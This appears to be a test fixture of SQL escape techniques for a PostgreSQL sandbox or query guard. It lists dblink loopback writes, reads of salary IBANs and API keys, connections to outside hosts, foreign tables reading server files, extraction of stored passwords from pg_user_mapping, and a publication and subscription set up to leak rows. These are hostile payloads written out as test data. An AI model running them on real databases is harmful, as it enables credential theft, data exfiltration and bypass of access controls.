--! technique dblink-write: a second connection that no transaction of ours holds
--! changed select count(*) from trap
select dblink_exec('loopback', 'insert into trap (note) values (''link'')')
--!
select * from dblink('loopback', 'insert into trap (note) values (''link'') returning id') as t(id int)
--!
select dblink_connect('c', 'loopback'), dblink_exec('c', 'insert into trap (note) values (''link'')')
--!
select "public"."dblink_exec"('loopback'::text, 'insert into trap (note) values (''link'')', false)
--!
select dblink_connect('d', 'loopback'), dblink_send_query('d', 'insert into trap (note) values (''link'') returning 1'), (select id from dblink_get_result('d') as t(id int))

--! technique dblink-read: what somebody else's login may read
--! tells opal-
select * from dblink('loopback', 'select iban from staff_salary') as t(v text)
--!
select v from orders, lateral dblink('loopback', 'select secret from vault.api_key') as t(v text) limit 1
--!
select dblink_connect('e', 'loopback'), dblink_open('e', 'k', 'table vault.api_key'), (select s from dblink_fetch('e', 'k', 1) as t(i int, s text))

--! technique dblink-connects: any host that the server reaches
--! tells could not establish connection
select dblink_connect('host=127.0.0.1 port=1 user=x password=y connect_timeout=1')
--!
select * from dblink('hostaddr=127.0.0.1 port=1 user=x password=y', 'select 1') as t(a int)

--! technique dblink-left: a link that outlives the call
--! session select array_length(dblink_get_connections(), 1)
select dblink_connect('kept', 'loopback')

--! technique foreign-table: a table that is somewhere else
--! tells opal-
select iban from vault.far_salary
--!
table vault.far_salary
--! tells scram-sha-256
select line from vault.server_file

--! technique foreign-write: a write that happens somewhere else
--! changed select count(*) from staff_salary
--! given delete from only staff_salary where name = 'Eve'
insert into vault.far_salary values ('Eve', 1, 'x')
--!
with w as (insert into vault.far_salary values ('Eve', 1, 'x') returning 1) select * from w

--! technique foreign-made: a way out of one's own
--! changed select count(*) from pg_foreign_table
--! given drop foreign table if exists borrowed
create foreign table borrowed (line text) server files options (filename 'PG_VERSION')
--! given drop foreign table if exists public.api_key
import foreign schema vault limit to (api_key) from server loopback_fdw into public
--! changed select count(*) from pg_foreign_server
--! given drop server if exists away cascade
create server away foreign data wrapper postgres_fdw options (host '192.0.2.1')

--! technique login-stolen: the passwords that links keep
--! tells password=
select array_to_string(umoptions, ',') from pg_user_mapping
--!
select (m).umoptions[2] from pg_user_mapping m

--! technique subscription: rows that are sent to whoever asks
--! changed select count(*) from pg_publication
--! given drop publication if exists leak
create publication leak for table staff_salary
--! changed select count(*) from pg_subscription
--! given drop subscription if exists far
create subscription far connection 'host=127.0.0.1 port=1 user=x password=y dbname=x' publication p with (connect = false, slot_name = none)
